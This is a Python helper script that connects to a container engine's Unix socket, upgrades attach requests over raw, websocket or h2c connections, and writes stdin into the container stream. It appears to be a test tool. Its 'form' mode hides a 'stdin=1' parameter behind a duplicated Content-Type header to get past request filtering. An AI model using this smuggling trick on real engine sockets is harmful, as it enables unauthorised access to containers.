"""Types into a stream of the engine (attach, attach/ws) and prints what comes back, until a line qw-end.
Says "typed" on its standard error once it has typed.

usage: hijack.py SOCKET METHOD PATH raw|ws|h2c|form <input
form: as raw, with stdin=1 in a form that a second Content-Type hides
"""
import os
import socket
import struct
import sys

END = b"\nqw-end"
PATIENCE_S = 5
ACCEPTED = b" 101 ", b" 200 "


def frame(payload):
    """One masked text frame of a client (RFC 6455, 5.2); a mask of zeros changes nothing."""
    length = len(payload)
    size = bytes([0x80 | length]) if length < 126 else bytes([0x80 | 126]) + struct.pack(">H", length)
    return b"\x81" + size + b"\0\0\0\0" + payload


def main():
    path, method, target = sys.argv[1:4]
    protocol = sys.argv[4]
    websocket = protocol == "ws"
    typed = sys.stdin.buffer.read()
    body = "stdin=1" if protocol == "form" else ""
    if websocket:
        upgrade = (
            "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nOrigin: http://engine\r\n"
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
        )
    else:
        upgrade = f"Upgrade: {'h2c' if protocol == 'h2c' else 'tcp'}\r\nContent-Length: {len(body)}\r\n"
    if body:
        upgrade += (
            "Content-Type: application/x-www-form-urlencoded\r\n"
            "Content-Type: application/vnd.docker.raw-stream\r\n"
        )
    with socket.socket(socket.AF_UNIX) as engine:
        engine.settimeout(PATIENCE_S)
        engine.connect(path)
        engine.sendall(f"{method} {target} HTTP/1.1\r\nHost: engine\r\nConnection: Upgrade\r\n{upgrade}\r\n{body}".encode())
        said = b""
        sent = False
        try:
            while END not in said:
                part = engine.recv(65536)
                if not part:
                    break
                said += part
                if not sent and b"\r\n\r\n" in said:
                    sent = True
                    if protocol == "h2c":
                        break
                    if not any(status in said.split(b"\r\n")[0] + b" " for status in ACCEPTED):
                        continue
                    engine.sendall(frame(typed) if websocket else typed)
                    print("typed", file=sys.stderr, flush=True)
        except TimeoutError:
            pass
    os.write(1, said)


main()
